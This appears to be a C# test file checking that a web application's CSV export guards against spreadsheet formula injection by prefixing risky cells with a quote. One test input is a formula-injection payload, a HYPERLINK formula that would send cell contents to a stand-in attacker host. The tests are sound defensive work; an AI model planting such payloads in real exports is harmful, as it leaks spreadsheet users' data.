using System.Net;
using System.Net.Http.Json;
using CapacityCoop.Web.Data.Seed;
using CapacityCoop.Web.Features.Agreements;
using CapacityCoop.Web.Features.Api;
using CapacityCoop.Web.Features.Projects;

namespace CapacityCoop.Tests.Features.Api;

/// <summary>CSV exports never hand a spreadsheet a formula: text that starts like one is prefixed with a single quote.</summary>
public sealed class CsvFormulaTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    [Fact]
    public async Task Titles_that_start_like_a_formula_are_exported_with_a_leading_quote()
    {
        var client = api.Client(await api.CreateKeyAsync("write"));
        string[] titles =
        [
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")",
            "+1 agreement on steel",
            "-20% tariffs on cement",
            "@SUM(1+1) pact",
            "Plain title, with a comma",
        ];
        foreach (var title in titles)
        {
            (await client.PostAsJsonAsync("/api/v1/agreements", Agreement(title))).StatusCode.ShouldBe(HttpStatusCode.Created);
        }

        var rows = CsvRows.Parse((await api.Client().GetStringAsync("/api/v1/agreements?format=csv&q=formulaprobe&sort=title")).TrimEnd('\r', '\n'));
        var exported = rows.Skip(1).Select(r => r[AgreementsApi.CsvHeader.ToList().IndexOf("title")]).ToList();

        exported.ShouldBe(
        [
            "'+1 agreement on steel",
            "'-20% tariffs on cement",
            "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")",
            "'@SUM(1+1) pact",
            "Plain title, with a comma",
        ], ignoreOrder: true);
        // Only the CSV cell is guarded: the record keeps its title as typed.
        var hyperlink = rows.Skip(1).Single(r => r[AgreementsApi.CsvHeader.ToList().IndexOf("title")].StartsWith("'=HYPERLINK", StringComparison.Ordinal));
        (await api.GetJsonAsync<AgreementDetailDto>($"/api/v1/agreements/{hyperlink[0]}")).Title.ShouldBe(titles[0]);
    }

    [Fact]
    public async Task Negative_numbers_the_exporter_writes_stay_numbers()
    {
        var client = api.Client(await api.CreateKeyAsync("write"));
        var created = await client.PostAsJsonAsync("/api/v1/projects", new
        {
            name = "-Minus sign project formulaprobe",
            hostCountry = "PER",
            status = "planned",
            sectors = new[] { "railways" },
            latitude = -12.0464,
            longitude = -77.0428,
            sources = new object[] { new { title = "A release", url = "https://example.org/peru" } },
        });
        created.StatusCode.ShouldBe(HttpStatusCode.Created, await created.Content.ReadAsStringAsync());

        var rows = CsvRows.Parse((await api.Client().GetStringAsync("/api/v1/projects?format=csv&q=formulaprobe")).TrimEnd('\r', '\n'));
        string Cell(string column) => rows[1][ProjectsApi.CsvHeader.ToList().IndexOf(column)];

        rows.Count.ShouldBe(2);
        Cell("name").ShouldBe("'-Minus sign project formulaprobe");
        Cell("latitude").ShouldBe("-12.0464");
        Cell("longitude").ShouldBe("-77.0428");
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@A1", "'@A1")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    public void Text_is_made_formula_safe(string text, string expected) => CsvWriter.FormulaSafe(text).ShouldBe(expected);

    private static object Agreement(string title) => new
    {
        title,
        kind = "mou",
        status = "signed",
        parties = new object[] { new { country = "CHN" }, new { country = "KEN" } },
        signedOn = "2016-05",
        summary = "An agreement for the formulaprobe export test.",
        sources = new object[] { new { title = "Joint press release", url = "https://example.org/formula" } },
    };
}
